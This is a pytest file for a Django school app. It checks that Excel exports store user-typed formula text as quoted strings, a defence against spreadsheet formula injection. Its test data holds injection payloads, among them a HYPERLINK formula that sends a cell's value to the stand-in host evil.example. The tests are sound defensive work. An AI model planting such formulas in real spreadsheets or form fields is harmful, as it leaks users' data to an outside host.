"""Spreadsheet exports keep text as text: nothing a user typed runs as a formula in Excel or WPS."""

from __future__ import annotations

import io
import re
import uuid
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from anxin.core.xlsx import safe_cell
from anxin.ledgers.base import xlsx_response

FORMULAS = [
    "=SUM(A1)",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://x/?"&A1,"点")',
]


def _sheet():  # noqa: ANN202
    from openpyxl import Workbook

    return Workbook(write_only=True).create_sheet("t")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_becomes_a_quoted_text_cell_with_the_same_text(text):
    cell = safe_cell(text, _sheet())
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize(
    "value", [-3, -2.5, 0, 12, "李小雨", "初一(1)班 = 好", "", None, date(2026, 9, 1), True]
)
def test_other_values_are_left_alone(value):
    assert safe_cell(value, _sheet()) == value


def test_an_export_stores_formula_text_as_text_and_numbers_as_numbers():
    rows = [["=SUM(A1)", -3, "-3", "@cmd", "正常"]]
    response = xlsx_response("t.xlsx", [("表", ["=标题", "数"], rows)])
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c for c in next(sheet.iter_rows(min_row=1, max_row=1))]
    assert (header[0].value, header[0].data_type, header[0].quotePrefix) == ("=标题", "s", True)
    cells = list(next(sheet.iter_rows(min_row=2, max_row=2)))
    # The exact text, no apostrophe added to the data; shown and edited as text.
    assert [c.value for c in cells] == ["=SUM(A1)", -3, "-3", "@cmd", "正常"]
    assert [c.data_type for c in cells] == ["s", "n", "s", "s", "s"]  # a string, never a formula ("f")
    assert [c.quotePrefix for c in cells] == [True, False, True, True, False]


@pytest.mark.django_db
def test_gate_visitor_export_does_not_carry_a_formula_typed_into_a_name(cast, login):
    from anxin.ledgers.gate import services

    services.visitor_record(
        actor=cast.users["gate_guard"],
        school=cast.school,
        client_key=uuid.uuid4(),
        name='=HYPERLINK("http://evil.example/?"&B3,"点此")',
        id_last4="123x",
        reason="-送饭",
        host_text="@班主任",
    )
    today = timezone.localdate().isoformat()
    response = login(cast.users["principal"]).get(
        reverse("ledgers:gate_export") + f"?date_from={today}&date_to={today}"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["来访登记"]
    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in values)
    risky = [c for c in values if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert '=HYPERLINK("http://evil.example/?"&B3,"点此")' in [c.value for c in risky]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_every_workbook_in_the_code_goes_through_safe_cell():
    """A new export must not bypass the helper: each module that builds a Workbook calls safe_cell."""
    root = Path(settings.BASE_DIR) / "anxin"
    builders = [
        p
        for p in root.rglob("*.py")
        if "tests" not in p.parts and re.search(r"\bWorkbook\(", p.read_text(encoding="utf-8"))
    ]
    assert builders, "no workbook found: the walk is broken"
    missing = [
        str(p.relative_to(root)) for p in builders if "safe_cell(" not in p.read_text(encoding="utf-8")
    ]
    assert missing == []
